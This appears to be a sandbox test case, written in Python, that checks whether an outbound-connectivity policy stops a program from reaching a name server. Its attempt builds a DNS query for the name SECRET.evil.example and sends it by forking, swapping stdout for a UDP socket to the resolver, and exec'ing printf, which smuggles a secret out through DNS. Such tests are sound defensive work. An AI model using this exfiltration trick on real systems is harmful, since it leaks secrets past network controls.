# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a program's standard output, which it writes to by stdio, is a socket to the name server
# proof: query
# needs: resolver
import os
import socket

from attack import RESOLVER, SECRET, attempt


def say(question):
    os.close(1)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if out.fileno() != 1:
        raise OSError("another fd")
    out.connect((RESOLVER, 53))
    os.set_inheritable(1, True)
    os.execv("/usr/bin/printf", ["printf", "".join("\\x%02x" % byte for byte in question)])


@attempt
def ask():
    question = b"\x12\x34\x01\x20\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in (SECRET, "evil", "example"):
        question += bytes([len(label)]) + label.encode()
    question += b"\0\0\x01\0\x01"
    pid = os.fork()
    if pid == 0:
        try:
            say(question)
        finally:
            os._exit(1)
    return os.waitpid(pid, 0)[1] == 0
